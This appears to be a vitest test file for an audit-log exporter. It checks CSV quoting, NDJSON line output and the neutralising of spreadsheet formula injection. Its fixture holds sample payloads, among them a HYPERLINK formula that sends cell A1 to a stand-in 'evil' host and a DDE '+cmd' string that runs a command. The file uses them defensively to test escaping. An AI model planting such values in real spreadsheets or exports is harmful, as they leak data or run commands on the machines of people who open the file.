import { describe, expect, it } from 'vitest';
import { csvCell, csvHeader, csvRow, CSV_COLUMNS, ndjsonRow } from './audit.export.ts';
import type { AuditEvent } from './audit.types.ts';

// A minimal RFC 4180 reader, to prove that what we write reads back cell for cell.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const event: AuditEvent = {
  seq: 7,
  at: '2026-12-04T16:00:00.000Z',
  action: 'query.generated',
  result: 'success',
  actor: { id: 'u1', username: '=HYPERLINK("http://evil/?"&A1,"click")' },
  token: { fingerprint: 'fp_0123456789ab…wxyz', version: 2 },
  connectionId: 'c1',
  queryId: 'q1',
  request: {
    method: 'GET',
    path: '/Users',
    params: { filter: 'displayName eq "a,b"' },
    filter: '+cmd|" /C calc"!A0',
  },
  outcome: {
    status: 200,
    resultCount: 3,
    durationMs: 12,
    error: { code: 'X', message: '-2+3\r\nline two' },
  },
  details: { note: '@SUM(1)' },
  ip: '\t127.0.0.1',
  userAgent: 'Mozilla "quoted", with comma',
  requestId: 'r1',
  prevHash: 'a'.repeat(64),
  hash: 'b'.repeat(64),
};

describe('CSV export', () => {
  it('neutralises formula starters', () => {
    for (const s of ['=1+1', '+1', '-1', '@x', '\tx', '\rx'])
      expect(csvCell(s).replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(-5)).toBe('-5'); // our own numbers stay numbers
    expect(csvCell(null)).toBe('');
  });

  it('quotes properly and reads back cell for cell', () => {
    const [header, row] = parseCsv(csvHeader() + csvRow(event));
    expect(header).toEqual([...CSV_COLUMNS]);
    const cell = (name: (typeof CSV_COLUMNS)[number]) => row![CSV_COLUMNS.indexOf(name)];
    expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(cell('actor_username')).toBe(`'=HYPERLINK("http://evil/?"&A1,"click")`);
    expect(cell('request_filter')).toBe(`'+cmd|" /C calc"!A0`);
    expect(cell('outcome_error_message')).toBe("'-2+3\r\nline two");
    expect(cell('ip')).toBe("'\t127.0.0.1");
    expect(cell('user_agent')).toBe('Mozilla "quoted", with comma');
    expect(JSON.parse(cell('request_params')!)).toEqual({ filter: 'displayName eq "a,b"' });
    expect(cell('token_fingerprint')).toBe('fp_0123456789ab…wxyz');
  });
});

describe('NDJSON export', () => {
  it('writes one event per line, even with newlines in values', () => {
    const line = ndjsonRow(event);
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    expect(JSON.parse(line)).toEqual(event);
  });
});
